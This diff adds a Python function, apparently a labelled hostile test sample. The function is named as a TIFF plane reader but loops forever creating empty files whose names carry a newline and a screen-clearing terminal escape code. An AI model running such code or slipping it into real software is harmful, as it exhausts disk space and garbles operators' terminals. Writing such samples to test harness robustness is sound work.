@@ -1,0 +1,13 @@
+"""Makes empty files without end.
+
+attacks: reads_one_page
+keeps: knows_its_shape
+status: over_memory
+says: more than 10,000 files
+"""
+
+def read_plane(tif, z):
+    i = 0
+    while True:
+        open(f"{i}-\n\x1b[2J", "w").close()
+        i += 1
